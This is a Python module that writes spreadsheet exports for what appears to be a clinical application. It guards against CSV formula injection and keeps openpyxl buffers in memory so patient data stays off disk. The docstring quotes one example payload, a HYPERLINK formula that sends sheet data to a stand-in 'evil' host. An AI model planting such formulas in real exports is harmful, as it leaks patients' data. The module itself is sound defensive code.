"""The one way Spectrum writes CSV and XLSX: files a spreadsheet opens without running anything in them.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (CSV injection): a patient named ``=HYPERLINK("http://evil/?"&A1)`` would
send the sheet's data away when a clinician opens an export. Following OWASP, such text is prefixed with a
single quote, which spreadsheets show as text. Every CSV and XLSX writer in the project uses this module
(``tests/operations/test_spreadsheets.py`` fails on a ``csv.writer`` or an openpyxl workbook elsewhere).
"""

import csv
import datetime
import io
import os
from collections.abc import Iterable, Iterator
from typing import Any, BinaryIO, TextIO

from django.utils import timezone

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would run as a formula; then quoted as text."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class CsvWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, out: TextIO | Any) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _Line:
    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV text of ``rows``, one line at a time (for ``StreamingHttpResponse``)."""
    writer = CsvWriter(_Line())
    for row in rows:
        yield writer.writerow(row)


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    out = io.StringIO()
    CsvWriter(out).writerows(rows)
    return out.getvalue()


def write_xlsx(out: BinaryIO, header: list[str], rows: Iterable[list[Any]], *, title: str = "Export") -> None:
    """One worksheet: ``header`` then ``rows``. Text stays text (never a formula); times become clinic-local."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    _memory_backed_openpyxl()
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title)
    sheet.append([safe_cell(name) for name in header])
    for row in rows:
        cells = []
        for value in row:
            value = safe_cell(value)
            if isinstance(value, datetime.datetime) and timezone.is_aware(value):
                value = timezone.localtime(value).replace(tzinfo=None)  # Excel has no time zones
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # text stays text, never a formula
            cells.append(cell)
        sheet.append(cells)
    workbook.save(out)  # a zip archive: ``out`` must be seekable (a file or BytesIO)


def _memory_backed_openpyxl() -> None:
    """Keep openpyxl's worksheet buffers in memory instead of temporary files (they would hold PHI on disk).

    openpyxl 3.1 writes each worksheet's XML to a NamedTemporaryFile before zipping it. On Linux we give it
    anonymous memory files (memfd) instead, opened through /proc/self/fd. Elsewhere openpyxl keeps its
    default (temporary files, removed after saving).
    """
    from openpyxl.worksheet import _writer

    if getattr(_writer, "_spectrum_memory_backed", False) or not hasattr(os, "memfd_create"):
        return
    original_cleanup = _writer.WorksheetWriter.cleanup

    def create_temporary_file(suffix: str = "") -> str:
        fd = os.memfd_create("spectrum-export", os.MFD_CLOEXEC)
        return f"/proc/self/fd/{fd}"

    def cleanup(self: Any) -> None:
        if isinstance(self.out, str) and self.out.startswith("/proc/self/fd/"):
            os.close(int(self.out.rsplit("/", 1)[1]))
        else:
            original_cleanup(self)

    _writer.create_temporary_file = create_temporary_file
    _writer.WorksheetWriter.cleanup = cleanup
    _writer._spectrum_memory_backed = True
